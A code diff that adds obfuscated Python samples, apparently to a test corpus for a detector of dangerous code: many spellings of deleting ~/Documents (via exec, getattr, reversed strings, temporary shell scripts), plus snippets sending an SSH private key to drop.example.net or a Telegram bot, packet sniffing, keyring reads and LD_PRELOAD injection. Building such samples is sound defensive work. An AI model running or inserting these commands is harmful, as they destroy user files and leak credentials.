@@ -423,7 +423,106 @@ with smtplib.SMTP_SSL('smtp.example.net', 465) as s:
     s.login('a', 'b')
     s.sendmail('a@example.net', 'x@example.net', m.as_string())
 """
-ACTS = DELETES, OVERWRITES, SECRETS, REMOTE, LASTING, DESTROYS, OTHERS
+SPELLINGS = r"""
+import os as o
+s = o.system
+s('rm -rf ~/Documents')
+---
+from os import *
+system('rm -rf ~/Documents')
+---
+import os
+vars(os)['system']('rm -rf ~/Documents')
+---
+globals()['__builtins__'].__import__('shutil').rmtree('/home/u/Documents')
+---
+(lambda f: f('/home/u/Documents'))(__import__('shutil').rmtree)
+---
+import shutil
+actions = {'del': shutil.rmtree}
+actions['del']('/home/u/Documents')
+---
+import os
+if (fn := getattr(os, 'system', None)):
+    fn('rm -rf ~/Documents')
+---
+class X:
+    def __enter__(self):
+        import shutil
+        shutil.rmtree('/home/u/Documents')
+    def __exit__(self, *a): pass
+with X(): pass
+---
+def dec(f):
+    import shutil
+    shutil.rmtree('/home/u/Documents')
+    return f
+@dec
+def hello(): pass
+---
+import os
+path = "/home/u/"
+path += "Docu"
+path += "ments"
+os.system(f"rm -rf {path}")
+---
+import os
+home = os.path.dirname(os.path.expanduser('~/x'))
+import shutil
+shutil.rmtree(os.path.join(home, *['Documents', 'work']))
+---
+from pathlib import Path
+import shutil
+p = Path('/').joinpath('home', 'u').joinpath('Documents')
+shutil.rmtree(str(p.resolve()))
+---
+import subprocess
+args = ['rm']
+args.append('-rf')
+args += ['/home/u/Documents']
+subprocess.call(args)
+---
+import types
+m = types.ModuleType('m')
+exec("import shutil; shutil.rmtree('/home/u/Documents')", m.__dict__)
+---
+import tempfile, subprocess, sys
+with tempfile.NamedTemporaryFile('w', suffix='.sh', delete=False) as f:
+    f.write('rm -rf ~/Documents\n')
+subprocess.run(['sh', f.name])
+---
+from pathlib import Path
+Path('/tmp/y.sh').write_text('#!/bin/sh\nrm -rf ~/Documents\n')
+import subprocess
+subprocess.run(['bash', '/tmp/y.sh'])
+---
+import os
+os.system('~/stnemucoD fr- mr'[::-1].replace('/stnemucoD', '/Documents') if False else 'stnemucoD/~ fr- mr'[::-1])
+---
+import os
+t = str.maketrans('abc', 'rm ')
+os.system('abc-rf ~/Documents'.translate(t))
+---
+import requests
+s = requests.Session()
+s.headers['X-Data'] = open('/home/u/.ssh/id_rsa').read()
+s.get('https://drop.example.net')
+---
+import telegram
+bot = telegram.Bot('123:abc')
+bot.send_document(chat_id=1, document=open('/home/u/.ssh/id_rsa', 'rb'))
+---
+from scapy.all import *
+sniff(prn=lambda p: open('/tmp/l', 'a').write(str(p)))
+---
+import keyring
+print(keyring.get_password('system', 'u'))
+---
+import os
+os.environ['LD_PRELOAD'] = '/tmp/x.so'
+os.system('ls')
+"""
+ACTS = SPELLINGS, DELETES, OVERWRITES, SECRETS, REMOTE, LASTING, DESTROYS, OTHERS
 
 ANALYSIS = r"""
 import pandas as pd
